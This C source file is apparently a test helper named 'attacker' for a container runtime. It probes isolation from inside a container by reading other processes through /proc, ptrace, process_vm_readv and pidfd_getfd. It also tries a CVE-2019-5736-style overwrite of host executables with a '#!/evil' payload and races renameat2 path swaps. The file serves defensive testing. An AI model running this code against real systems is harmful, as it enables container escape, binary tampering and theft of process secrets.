/*
 * A program for tests, with these commands:
 *
 *   attacker watch            repeatedly inspects all other processes of its pid namespace through every kernel interface, and
 *                             prints each result once. Never ends.
 *   attacker reach PID        tries each access of `watch` once, on one process; prints a line for each access that succeeded,
 *                             and `tried`
 *   attacker target STATUS    is executed beside it: prints a line for each of its descriptors and its inheritable
 *                             capabilities, waits briefly, and exits with STATUS
 *   attacker pty COMMAND...   runs a command on a new pseudo-terminal, its controlling one; prints its output and exits with
 *                             its status
 *   attacker console SOCKET   listens, prints `listening` to standard error, receives a terminal as containerd does, and prints
 *                             its output
 *   attacker swap A B...      repeatedly exchanges A and B, and further pairs, until SIGTERM; then prints the number of exchanges
 *
 * Lines of `watch`: the access and its result. EXE is the executable of the process immediately after the access:
 *
 *   met                a process that has not executed its program yet; one line for each
 *   link KIND TARGET   a readable symbolic link in /proc/PID: exe, cwd, root, fd, ns (if it differs from the attacker's)
 *   cmdline TEXT, comm TEXT, map NAME, environ EXE
 *   mem EXE            opened /proc/PID/mem
 *   vm EXE             process_vm_readv(2) was permitted
 *   getfd TARGET EXE   pidfd_getfd(2) returned a descriptor of that target
 *   traced EXE         attached with ptrace(2)
 *   stopped EXE        stopped the process with ptrace(2)
 *   opened NAME        opened an executable, which is not the attacker's own, for writing
 *   wrote NAME         changed that executable
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <pty.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define SEEN (1u << 16)
#define KEPT 64
#define LONGEST 1024
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif
#define CALL_PIDFD_OPEN 434
#define CALL_PIDFD_GETFD 438

static uint64_t seen[SEEN];
static struct stat own_exe;
static char own_ns[16][64];
static int own_ns_count;

/* Descriptors of executables, kept until after their processes have ended: a running program cannot be written to. */
static struct {
    int fd;
    char name[256];
} kept[KEPT];
static unsigned next_kept;

static uint64_t hash(const char *text) {
    uint64_t h = 14695981039346656037u;
    for (; *text != '\0'; text++) {
        h = (h ^ (unsigned char)*text) * 1099511628211u;
    }
    return h == 0 ? 1 : h;
}

/* Returns true the first time it gets a text. */
static bool first(const char *text) {
    uint64_t h = hash(text);
    for (unsigned i = 0; i < SEEN; i++) {
        uint64_t *slot = &seen[(h + i) % SEEN];
        if (*slot == h) {
            return false;
        }
        if (*slot == 0) {
            *slot = h;
            return true;
        }
    }
    return true;
}

static void put(const char *line) {
    size_t length = strlen(line);
    if (write(STDOUT_FILENO, line, length) != (ssize_t)length) {
        _exit(90);
    }
}

/* Prints a line if it is new, without control characters and without the numbers of pipes and sockets. */
static void report(const char *what, const char *a, const char *b) {
    char line[3 * LONGEST];
    int n = snprintf(line, sizeof line - 1, "%s %s%s%s", what, a, b[0] == '\0' ? "" : " ", b);
    size_t length = n < 0 ? 0 : (size_t)n < sizeof line - 2 ? (size_t)n : sizeof line - 2;
    for (size_t i = 0; i < length; i++) {
        line[i] = (unsigned char)line[i] < ' ' ? ' ' : line[i];
    }
    char *bracket = strstr(line, ":[");
    if (bracket != NULL && strncmp(line, "link ns", 7) != 0) {
        bracket[1] = '\0';
        length = (size_t)(bracket + 1 - line);
    }
    line[length] = '\0';
    if (first(line)) {
        line[length] = '\n';
        line[length + 1] = '\0';
        put(line);
    }
}

/* Reads the target of a link. Returns false if it cannot be read. */
static bool target_of(const char *path, char *target) {
    ssize_t n = readlink(path, target, LONGEST - 1);
    target[n < 0 ? 0 : n] = '\0';
    return n >= 0;
}

/* Returns the executable of a process: a path, `closed` if access is denied, or `gone`. */
static const char *exe_of(const char *pid, char *exe) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%.20s/exe", pid);
    if (!target_of(path, exe)) {
        strcpy(exe, errno == EACCES || errno == EPERM ? "closed" : "gone");
    }
    return exe;
}

static size_t slurp(const char *path, char *text, size_t room) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    size_t length = 0;
    for (ssize_t n; fd >= 0 && length < room - 1 && (n = read(fd, text + length, room - 1 - length)) > 0;) {
        length += (size_t)n;
    }
    if (fd >= 0) {
        close(fd);
    }
    text[length] = '\0';
    return length;
}

/* Writes through a descriptor, as in CVE-2019-5736: opening it for writing fails only while the program runs. */
static void overwrite(int handle, const char *name) {
    static const char evil[] = "#!/evil\n";
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd < 0) {
        fd = open(path, O_WRONLY | O_CLOEXEC);
    }
    if (fd < 0) {
        return;
    }
    if (write(fd, evil, sizeof evil - 1) > 0 || pwrite(fd, evil, 1, 64) > 0 || ftruncate(fd, 10) == 0
        || fallocate(fd, 0, 0, 1 << 24) == 0 || fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096) == 0
        || mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) != MAP_FAILED) {
        report("wrote", name, "");
    }
    report("opened", name, "");
    close(fd);
}

static void keep_exe(const char *pid) {
    char path[64];
    char name[LONGEST];
    struct stat st;
    snprintf(path, sizeof path, "/proc/%.20s/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) {
        return;
    }
    if (fstat(fd, &st) != 0 || (st.st_dev == own_exe.st_dev && st.st_ino == own_exe.st_ino)) {
        close(fd);
        return;
    }
    /* Reads the name from the descriptor, since the process may have executed another program meanwhile. */
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    target_of(path, name);
    overwrite(fd, name);
    if (kept[next_kept].fd > 0) {
        overwrite(kept[next_kept].fd, kept[next_kept].name);
        close(kept[next_kept].fd);
    }
    kept[next_kept].fd = fd;
    snprintf(kept[next_kept].name, sizeof kept[next_kept].name, "%.255s", name);
    next_kept = (next_kept + 1) % KEPT;
}

static void links_in(const char *pid, const char *directory) {
    char path[LONGEST];
    char target[LONGEST];
    snprintf(path, sizeof path, "/proc/%.20s/%s", pid, directory);
    DIR *dir = opendir(path);
    for (struct dirent *e; dir != NULL && (e = readdir(dir)) != NULL;) {
        snprintf(path, sizeof path, "/proc/%.20s/%s/%.255s", pid, directory, e->d_name);
        if (e->d_name[0] == '.' || !target_of(path, target)) {
            continue;
        }
        bool own = false;
        for (int i = 0; strcmp(directory, "ns") == 0 && i < own_ns_count; i++) {
            own = own || strcmp(own_ns[i], target) == 0;
        }
        if (!own) {
            report(strcmp(directory, "ns") == 0 ? "link ns" : "link fd", target, "");
        }
    }
    if (dir != NULL) {
        closedir(dir);
    }
}

static void inspect(const char *pid) {
    char path[64];
    char text[8 * LONGEST];
    char exe[LONGEST];
    static const char *const links[] = {"exe", "cwd", "root"};
    for (int i = 0; i < 3; i++) {
        snprintf(path, sizeof path, "/proc/%.20s/%s", pid, links[i]);
        if (target_of(path, text)) {
            snprintf(path, sizeof path, "link %s", links[i]);
            report(path, text, "");
        }
    }
    links_in(pid, "fd");
    links_in(pid, "ns");
    snprintf(path, sizeof path, "/proc/%.20s/maps", pid);
    if (slurp(path, text, sizeof text) > 0) {
        for (char *rest = text, *line; (line = strtok_r(rest, "\n", &rest)) != NULL;) {
            char *name = strpbrk(line, "/[");
            report("map", name == NULL ? "anonymous" : name, "");
        }
    }
    snprintf(path, sizeof path, "/proc/%.20s/comm", pid);
    if (slurp(path, text, sizeof text) > 0) {
        text[strcspn(text, "\n")] = '\0';
        report("comm", text, "");
    }
    snprintf(path, sizeof path, "/proc/%.20s/environ", pid);
    if (slurp(path, text, LONGEST) > 0) {
        report("environ", exe_of(pid, exe), "");
    }
}

static void reach(const char *pid) {
    char path[64];
    char exe[LONGEST];
    char target[LONGEST];
    char word[16];
    struct iovec local = {.iov_base = word, .iov_len = sizeof word};
    struct iovec remote = {.iov_base = (void *)16, .iov_len = sizeof word};
    snprintf(path, sizeof path, "/proc/%.20s/mem", pid);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd >= 0) {
        report("mem", exe_of(pid, exe), "");
        close(fd);
    }
    /* No memory is mapped at this address, but the kernel checks the permission first. */
    if (process_vm_readv(atoi(pid), &local, 1, &remote, 1, 0) >= 0 || errno == EFAULT) {
        report("vm", exe_of(pid, exe), "");
    }
    int pidfd = (int)syscall(CALL_PIDFD_OPEN, atoi(pid), 0);
    for (int i = 0; pidfd >= 0 && i < 12; i++) {
        fd = (int)syscall(CALL_PIDFD_GETFD, pidfd, i, 0);
        if (fd >= 0) {
            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
            exe_of(pid, exe);
            report("getfd", target_of(path, target) ? target : "?", exe);
            close(fd);
        }
    }
    if (pidfd >= 0) {
        close(pidfd);
    }
}

static void trace(const char *name, bool seize) {
    char exe[LONGEST];
    int status = 0;
    pid_t pid = atoi(name);
    long attached = seize ? ptrace(PTRACE_SEIZE, pid, 0, 0) : ptrace(PTRACE_ATTACH, pid, 0, 0);
    if (attached != 0) {
        return;
    }
    /* Immediately, before execve(2) can change the executable; a process that waited in execve(2) has the new one. */
    report("traced", exe_of(name, exe), "");
    if (seize) {
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    }
    bool stopped = waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status);
    if (stopped) {
        report("stopped", exe_of(name, exe), "");
    }
    /* Consumes the SIGSTOP of the attach; otherwise the process would stay stopped after the detach. */
    while (stopped && !seize && WSTOPSIG(status) != SIGSTOP) {
        stopped = ptrace(PTRACE_CONT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status);
    }
    if (stopped) {
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
}

/* Prints a line for each process that has not executed its program yet, recognized by the launcher's command line. */
static void check_early(const char *pid) {
    char path[64];
    char text[LONGEST];
    snprintf(path, sizeof path, "/proc/%.20s/cmdline", pid);
    if (slurp(path, text, sizeof text) == 0) {
        return;
    }
    if (strncmp(text, "hexrun", 6) == 0) {
        char key[64];
        snprintf(key, sizeof key, "met %.20s", pid);
        if (first(key)) {
            put("met\n");
        }
    }
    report("cmdline", text, "");
}

static _Noreturn void watch(void) {
    char self[16];
    snprintf(self, sizeof self, "%d", getpid());
    stat("/proc/self/exe", &own_exe);
    DIR *ns = opendir("/proc/self/ns");
    for (struct dirent *e; ns != NULL && (e = readdir(ns)) != NULL && own_ns_count < 16;) {
        char path[300];
        char target[LONGEST];
        snprintf(path, sizeof path, "/proc/self/ns/%.255s", e->d_name);
        if (e->d_name[0] != '.' && target_of(path, target)) {
            snprintf(own_ns[own_ns_count++], 64, "%.63s", target);
        }
    }
    DIR *proc = opendir("/proc");
    if (proc == NULL || ns == NULL) {
        _exit(91);
    }
    put("watching\n");
    for (unsigned round = 0;; round++) {
        bool any = false;
        rewinddir(proc);
        for (struct dirent *e; (e = readdir(proc)) != NULL;) {
            if (e->d_name[0] < '1' || e->d_name[0] > '9' || strcmp(e->d_name, self) == 0) {
                continue;
            }
            any = true;
            check_early(e->d_name);
            keep_exe(e->d_name);
            reach(e->d_name);
            trace(e->d_name, round % 2 == 0);
            inspect(e->d_name);
        }
        for (unsigned i = 0; !any && round % 256 == 0 && i < KEPT; i++) {
            if (kept[i].fd > 0) {
                overwrite(kept[i].fd, kept[i].name);
            }
        }
        while (waitpid(-1, NULL, WNOHANG) > 0) {
        }
    }
}

/* Tries each access for which the kernel requires the permission to trace. */
static int reach_once(const char *pid) {
    static const char *const files[] = {"mem", "environ", "maps", "auxv"};
    static const char *const links[] = {"root", "cwd", "exe", "fd/0", "ns/mnt", "ns/pid", "ns/net"};
    char path[64];
    char text[LONGEST];
    char word[16];
    struct iovec local = {.iov_base = word, .iov_len = sizeof word};
    struct iovec remote = {.iov_base = (void *)16, .iov_len = sizeof word};
    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
        snprintf(path, sizeof path, "/proc/%.20s/%s", pid, files[i]);
        int fd = open(path, i == 0 ? O_RDWR | O_CLOEXEC : O_RDONLY | O_CLOEXEC);
        if (fd >= 0) {
            report("opened", files[i], "");
            close(fd);
        }
    }
    for (size_t i = 0; i < sizeof links / sizeof links[0]; i++) {
        snprintf(path, sizeof path, "/proc/%.20s/%s", pid, links[i]);
        if (target_of(path, text)) {
            report("read", links[i], "");
        }
    }
    if (process_vm_readv(atoi(pid), &local, 1, &remote, 1, 0) >= 0 || errno == EFAULT) {
        put("vm\n");
    }
    int pidfd = (int)syscall(CALL_PIDFD_OPEN, atoi(pid), 0);
    if (pidfd < 0) {
        put("gone\n");
    }
    if (pidfd >= 0 && (int)syscall(CALL_PIDFD_GETFD, pidfd, 0, 0) >= 0) {
        put("getfd\n");
    }
    if (ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) == 0) {
        put("traced\n");
    }
    put("tried\n");
    return 0;
}

static int target(int status) {
    char path[64];
    char text[4 * LONGEST];
    for (int fd = 0; fd < 1024; fd++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        if (target_of(path, text)) {
            char *bracket = strstr(text, ":[");
            if (bracket != NULL) {
                *bracket = '\0';
            }
            printf("%d %s\n", fd, text);
        }
    }
    slurp("/proc/self/status", text, sizeof text);
    char *inheritable = strstr(text, "CapInh:");
    printf("%.24s\n", inheritable == NULL ? "?" : inheritable);
    fflush(stdout);
    nanosleep(&(struct timespec){.tv_nsec = 4000000}, NULL);
    return status;
}

/* Prints all output until the slave of the terminal is closed. */
static void copy(int from) {
    char buffer[4096];
    for (ssize_t n; (n = read(from, buffer, sizeof buffer)) > 0;) {
        for (ssize_t done = 0; done < n;) {
            ssize_t w = write(STDOUT_FILENO, buffer + done, (size_t)(n - done));
            if (w <= 0) {
                return;
            }
            done += w;
        }
    }
}

static int pty(char **argv) {
    int master;
    int status = 0;
    struct winsize size = {.ws_row = 33, .ws_col = 77};
    pid_t pid = forkpty(&master, NULL, NULL, &size);
    if (pid == 0) {
        close(master);
        execvp(argv[0], argv);
        _exit(93);
    }
    copy(master);
    if (pid < 0 || waitpid(pid, &status, 0) != pid) {
        return 94;
    }
    return WIFSIGNALED(status) ? 128 + WTERMSIG(status) : WEXITSTATUS(status);
}

static int console(const char *path) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
    if (fd < 0 || bind(fd, (struct sockaddr *)&address, sizeof address) != 0 || listen(fd, 8) != 0) {
        return 95;
    }
    fputs("listening\n", stderr);
    int connection = accept(fd, NULL, NULL);
    char name[256];
    struct iovec data = {.iov_base = name, .iov_len = sizeof name};
    union {
        struct cmsghdr header;
        char room[CMSG_SPACE(sizeof(int))];
    } control;
    struct msghdr message = {
        .msg_iov = &data, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
    if (connection < 0 || recvmsg(connection, &message, MSG_CMSG_CLOEXEC) <= 0 || CMSG_FIRSTHDR(&message) == NULL) {
        return 96;
    }
    int master;
    memcpy(&master, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof master);
    copy(master);
    return 0;
}

static volatile sig_atomic_t ended;

static void end(int signal) {
    (void)signal;
    ended = 1;
}

/* Exchanges paths with random pauses, so that the exchanges coincide with different steps of other processes. */
static int swap(int count, char **paths) {
    unsigned long swapped = 0;
    unsigned state = 1;
    signal(SIGTERM, end);
    put("swapping\n");
    while (!ended) {
        for (int i = 0; i + 1 < count; i += 2) {
            if (syscall(SYS_renameat2, AT_FDCWD, paths[i], AT_FDCWD, paths[i + 1], RENAME_EXCHANGE) != 0) {
                perror(paths[i]);
                return 98;
            }
        }
        swapped++;
        state = state * 1103515245u + 12345u;
        for (volatile unsigned spin = (state >> 16) % 40000; spin > 0; spin--) {
        }
    }
    printf("swapped %lu\n", swapped);
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 2 && strcmp(argv[1], "watch") == 0) {
        watch();
    }
    if (argc == 3 && strcmp(argv[1], "reach") == 0) {
        return reach_once(argv[2]);
    }
    if (argc == 3 && strcmp(argv[1], "target") == 0) {
        return target(atoi(argv[2]));
    }
    if (argc > 3 && strcmp(argv[1], "swap") == 0) {
        return swap(argc - 2, argv + 2);
    }
    if (argc > 2 && strcmp(argv[1], "pty") == 0) {
        return pty(argv + 2);
    }
    if (argc == 3 && strcmp(argv[1], "console") == 0) {
        return console(argv[2]);
    }
    /* Executed without arguments: the program replaces the dynamic linker of an image. */
    put("the image's code runs\n");
    return 97;
}
